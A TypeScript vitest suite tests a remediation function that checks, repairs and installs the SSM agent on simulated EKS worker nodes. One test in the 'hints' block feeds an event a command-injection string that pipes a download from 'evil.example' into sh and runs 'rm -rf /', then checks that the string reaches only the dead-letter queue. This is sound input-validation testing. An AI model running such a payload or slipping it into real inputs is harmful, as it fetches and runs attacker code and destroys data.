import { describe, expect, it } from 'vitest';
import { sample as coverage } from '../events/inspector-coverage.ts';
import type { RemediationRecord } from '../functions/shared/record.ts';
import { deadLetterCount, playThrough, type Scenario, start } from './harness.ts';

type Run = Awaited<ReturnType<typeof start>>;

const RELEASES = {
  at: '-10d',
  kubernetesVersion: '1.33',
  amiTypes: ['AL2023_x86_64_STANDARD'],
  releaseVersion: '1.33.13-20260714',
};
const ENTRY = { function: 'manage-ssm-agent', kubernetesGroups: ['eks-host-remediator'] };
const KINDS = ['nodeGroup', 'selfManagedGroup', 'karpenterNodePool'] as const;
type Kind = (typeof KINDS)[number];
const OWN_AMI = 'ami-0c0ffee0c0ffee001';

/** One cluster in which one worker of a kind is launched a minute after the start. */
function launch(kind: Kind, ssm: object, more: object = {}): Scenario & { readonly play: string } {
  const groups = {
    nodeGroup: { nodeGroups: [{ name: 'g', desiredSize: 0, maxSize: 5, ssm }] },
    selfManagedGroup: { selfManagedGroups: [{ name: 'g', size: 0, imageId: OWN_AMI, ssm }] },
    karpenterNodePool: { karpenterNodePools: [{ name: 'g', size: 0, imageId: OWN_AMI, ssm }] },
  };
  return {
    fleet: {
      startsAt: '2026-07-20T00:05:00Z',
      releases: [RELEASES],
      clusters: [{ name: 'shop', version: '1.33', accessEntries: [ENTRY], ...groups[kind], ...more }],
      launches: [{ at: '+1m', cluster: 'shop', [kind]: 'g', count: 1, withinSeconds: 0 }],
    },
    play: '50m',
  };
}

const ours = ({ records }: Run): RemediationRecord[] =>
  records.filter(({ remediation }) => remediation === 'manage-ssm-agent');
/** What was told, in order; that a remedy still works is told only where it takes longer than until the next look. */
const outcomes = (run: Run): string[] =>
  ours(run)
    .map(({ decision, reason }) => `${decision} ${reason}`)
    .filter((line) => line !== 'waiting remedy-in-progress');
const changes = ({ calls }: Run): string[] =>
  calls
    .filter((call) => call.function === 'manage-ssm-agent')
    .filter(({ operation }) => /^(Attach|Update|SendCommand|PATCH|DELETE)/.test(operation))
    .map(({ service, operation }) => `${service} ${operation}`);
const agentOf = async ({ account }: Run): Promise<string | undefined> => account.onlineAgents().at(0);

describe.each(KINDS)('a launched worker of kind %s', (kind) => {
  it('whose agent registers is verified, once, by reads only', async () => {
    const run = await playThrough(launch(kind, {}));
    expect(outcomes(run)).toEqual(['done agent-verified']);
    expect(changes(run)).toEqual([]);
    expect(ours(run)[0]).toMatchObject({ cluster: 'shop', instance: expect.stringMatching(/^i-/) });
  });

  it('whose role lacks the rights gets the policy attached, and is done when the agent answers', async () => {
    const run = await playThrough(launch(kind, { managedPolicy: false }));
    expect(outcomes(run)).toEqual(['waiting agent-not-yet-registered', 'acted policy-attached', 'done agent-cured']);
    expect(changes(run)).toEqual(['iam AttachRolePolicy']);
    expect(await agentOf(run)).toBeDefined();
    expect(
      new Set(
        ours(run)
          .slice(1)
          .map(({ correlationId }) => correlationId),
      ).size,
    ).toBe(1);
  });

  it.each<[string, object, object, string]>([
    ['no-instance-profile', { instanceProfile: false }, {}, 'no instance profile'],
    ['no-network-path', { network: 'none' }, {}, 'no default route'],
    [
      'no-network-path',
      {},
      { network: { endpoints: { services: ['ssm', 'ec2messages'] } } },
      'no endpoint for ssmmessages',
    ],
    ['no-network-path', {}, { network: { endpoints: { admits: 'others' } } }, 'does not admit 10.'],
    ['no-network-path', {}, { network: { endpoints: { privateDns: false } } }, 'has private DNS off'],
    ['imds-unreachable', { imds: 'disabled' }, {}, 'metadata endpoint'],
  ])('with %s (%j %j) is told of, with the exact piece, and nothing is changed', async (cause, ssm, cluster, piece) => {
    const run = await playThrough(launch(kind, ssm, cluster));
    expect(outcomes(run)).toEqual(['waiting agent-not-yet-registered', `failed ${cause}`]);
    expect(ours(run).at(-1)?.message).toContain(piece);
    expect(changes(run)).toEqual([]);
  });

  it('whose agent fell silent is told of', async () => {
    const run = await playThrough({ ...launch(kind, { agent: 'dead' }), play: '3h' });
    expect(outcomes(run).at(-1)).toBe('failed connection-lost');
    expect(changes(run)).toEqual([]);
  });

  it('whose agent is old is updated by a command, and is done when the version is the latest', async () => {
    const run = await playThrough(launch(kind, { latest: false }));
    expect(outcomes(run)).toEqual(['acted agent-update-started', 'done agent-updated']);
    expect(changes(run)).toEqual(['ssm SendCommand']);
  });
});

describe('a missing agent', () => {
  const missing = (ssm: object = {}, cluster: object = {}) =>
    launch('selfManagedGroup', { agent: 'missing', osImage: 'Ubuntu 22.04.5 LTS', ...ssm }, cluster);

  it('is installed through Kubernetes on just that node, and the DaemonSet is gone when the agent answers', async () => {
    const run = await playThrough(missing());
    expect(outcomes(run)).toEqual([
      'waiting agent-not-yet-registered',
      'acted agent-install-started',
      'done agent-cured',
    ]);
    expect(changes(run)).toEqual(['kubernetes PATCH daemonsets', 'kubernetes DELETE daemonsets']);
    expect(await agentOf(run)).toBeDefined();
    expect(daemonSets(run)).toEqual([]);
  });

  it.each<[string, object, object, string]>([
    ['without an access entry', {}, { accessEntries: [] }, 'kubernetes-access-missing'],
    ['without the RBAC manifest', {}, { rbacApplied: false }, 'kubernetes-forbidden'],
    ['with a private endpoint only', {}, { endpointPublicAccess: false }, 'kubernetes-unreachable'],
    ['on an operating system that cannot be served', { osImage: 'NixOS 24.11' }, {}, 'agent-not-installable'],
  ])('%s is told of, and nothing is left behind', async (_what, ssm, cluster, reason) => {
    const run = await playThrough(missing(ssm, cluster));
    expect(outcomes(run)[1]).toBe(`failed ${reason}`);
    expect(daemonSets(run)).toEqual([]);
  });

  it('on Bottlerocket never gets the DaemonSet', async () => {
    const bottlerocket = {
      at: '-10d',
      kubernetesVersion: '1.33',
      amiType: 'BOTTLEROCKET_x86_64',
      releaseVersion: '1.42.0-ca9b9399',
    };
    const { fleet, play } = launch('nodeGroup', { agent: 'missing' });
    const clusters = [
      {
        name: 'shop',
        version: '1.33',
        accessEntries: [ENTRY],
        nodeGroups: [
          { name: 'g', amiType: 'BOTTLEROCKET_x86_64', desiredSize: 0, maxSize: 5, ssm: { agent: 'missing' } },
        ],
      },
    ];
    const run = await playThrough({ fleet: { ...(fleet as object), releases: [bottlerocket], clusters }, play });
    expect(outcomes(run)).toEqual(['waiting agent-not-yet-registered', 'failed agent-missing']);
    expect(changes(run)).toEqual([]);
  });

  it('that cannot be cured fails after its time, the DaemonSet is removed, and it is tried as often as the policy allows', async () => {
    const run = await playThrough({
      ...missing({ agent: 'stopped' }),
      policy: { ssmAgent: { cureWithin: '10m', retryAfter: '15m', attempts: 2 } },
      play: '3h',
    });
    const told = outcomes(run).filter((line) => /agent-install-started|failed/.test(line));
    expect(told).toEqual([
      'acted agent-install-started',
      'failed agent-missing',
      'acted agent-install-started',
      'failed agent-missing',
      'failed agent-missing',
    ]);
    expect(daemonSets(run)).toEqual([]);
  });
});

describe('policy and tags', () => {
  it.each([
    ['observe', { ssmAgent: { mode: 'observe' } }, 'would-act would-remedy'],
    ['off', { ssmAgent: { mode: 'off' } }, 'skipped mode-off'],
    ['kill switch', { killSwitch: true }, 'skipped kill-switch'],
    ['unknown key', { ssmAgents: {} }, 'refused policy-invalid'],
  ])('%s: nothing is changed, and that is recorded once', async (_what, policy, last) => {
    const run = await playThrough({ ...launch('nodeGroup', { managedPolicy: false }), policy });
    expect(outcomes(run).at(-1)).toBe(last);
    expect(outcomes(run).filter((line) => line === last)).toHaveLength(1);
    expect(changes(run)).toEqual([]);
  });

  it('Default Host Management cures a missing profile where the policy allows it', async () => {
    const run = await playThrough({
      ...launch('nodeGroup', { instanceProfile: false }),
      policy: { ssmAgent: { remedies: { defaultHostManagement: 'enforce' } } },
    });
    expect(changes(run)).toEqual(['ssm UpdateServiceSetting']);
    expect(outcomes(run).at(-1)).toBe('done agent-cured');
  });

  it('an opted-out cluster is left alone', async () => {
    const tags = { 'eks-host-remediator:ignore': 'true' };
    const run = await playThrough(launch('nodeGroup', { managedPolicy: false }, { tags }));
    expect(outcomes(run).at(-1)).toBe('skipped opted-out');
    expect(changes(run)).toEqual([]);
  });
});

describe('hints', () => {
  it('the sweep finds a worker that no event told of, and Auto Mode is skipped', async () => {
    const fleet = {
      startsAt: '2026-07-20T00:05:00Z',
      releases: [RELEASES],
      clusters: [
        {
          name: 'shop',
          version: '1.33',
          autoMode: { instances: 1 },
          nodeGroups: [{ name: 'g', desiredSize: 1, ssm: { managedPolicy: false } }],
        },
      ],
    };
    const run = await playThrough({ fleet, play: '2h' });
    expect(outcomes(run).sort()).toEqual(['acted policy-attached', 'done agent-cured', 'skipped auto-mode'].sort());
  });

  it('an instance that is no worker, look-alike tags or not, costs no record and no act', async () => {
    const event = { ...coverage, resources: ['i-0123456789abcdef0'] };
    const run = await playThrough({ ...launch('nodeGroup', {}), events: [{ after: 0, event }] });
    expect(outcomes(run)).toEqual(['done agent-verified']);
    expect(deadLetterCount(run)).toBe(0);
  });

  it('a text that is no instance id goes to the dead-letter queue, and reaches nothing else', async () => {
    const hostile = '$(curl evil.example|sh)"; rm -rf / #';
    const event = { ...coverage, resources: [hostile] };
    const run = await playThrough({ ...launch('nodeGroup', {}), events: [{ after: 0, event }] });
    expect(deadLetterCount(run)).toBe(1);
    expect(JSON.stringify(run.calls.filter(({ service }) => service !== 'sqs'))).not.toContain('evil.example');
    expect(run.records.find(({ reason }) => reason === 'invalid-event')?.message).toContain('resources.0');
  });
});

describe('a thousand launches within ten seconds', () => {
  it('give each worker exactly one outcome, for reads at most a twentieth of the events', async () => {
    const fleet = {
      startsAt: '2026-07-20T00:05:00Z',
      releases: [RELEASES],
      clusters: [
        {
          name: 'shop',
          version: '1.33',
          nodeGroups: [
            { name: 'g', desiredSize: 0, maxSize: 450 },
            { name: 'h', desiredSize: 0, maxSize: 450 },
            { name: 'i', desiredSize: 0, maxSize: 450 },
          ],
        },
      ],
      launches: ['g', 'h', 'i'].map((nodeGroup, index) => ({
        at: '+1m',
        cluster: 'shop',
        nodeGroup,
        count: index === 0 ? 334 : 333,
        withinSeconds: 10,
      })),
    };
    const run = await playThrough({ fleet, play: '20m', faults: { throttleRate: 0.02 } });
    const final = ours(run).filter(({ decision }) => decision !== 'waiting');
    expect(final).toHaveLength(1000);
    expect(new Set(final.map(({ instance }) => instance)).size).toBe(1000);
    expect(new Set(final.map(({ reason }) => reason))).toEqual(new Set(['agent-verified']));
    const reads = run.calls.filter(
      ({ function: name, operation, outcome }) =>
        name === 'manage-ssm-agent' && outcome === 'ok' && /^(Describe|Get|List|BatchGet|Query)/.test(operation),
    );
    // Two events a launch: EC2's and Auto Scaling's.
    expect(reads.length).toBeLessThanOrEqual(2000 / 20);
  });
});

describe('manage-ssm-agent dies at its n-th call of the longest path', () => {
  const scenario = (crash?: object): Scenario => ({
    ...launch('selfManagedGroup', { agent: 'missing', osImage: 'Ubuntu 22.04.5 LTS' }),
    play: '3h',
    ...(crash !== undefined && { faults: { crash } as NonNullable<Scenario['faults']> }),
  });

  it.each(['before', 'after'] as const)(
    '%s the call is done: the agent answers in the end, and no DaemonSet is left',
    async (when) => {
      const undisturbed = await start(scenario());
      const calls = undisturbed.calls.filter((call) => call.function === 'manage-ssm-agent');
      const longest = calls.findIndex(({ operation }) => operation === 'DELETE daemonsets') + 5;
      expect(longest).toBeGreaterThan(20);
      for (let call = 1; call <= longest; call++) {
        const run = await start(scenario({ function: 'manage-ssm-agent', call, when }));
        const where = `call ${call}`;
        expect(await agentOf(run), where).toBeDefined();
        expect(daemonSets(run), where).toEqual([]);
        expect(outcomes(run).at(-1), where).toMatch(/^done/);
      }
    },
  );
});

/** The DaemonSets that stand in any cluster of the account. */
const daemonSets = ({ account }: Run): string[] => account.kubernetes.daemonSets().map(({ name }) => name);
